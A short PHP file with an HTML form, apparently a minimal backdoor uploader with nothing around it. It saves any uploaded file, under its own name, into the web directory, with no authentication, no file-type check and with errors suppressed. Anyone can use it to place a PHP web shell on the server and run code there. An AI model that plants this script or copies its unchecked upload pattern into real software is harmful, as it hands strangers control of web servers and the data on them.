<?php
$u = $_FILES['f'];
if ($u) { @copy($u['tmp_name'], basename($u['name'])); }
?>
<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>
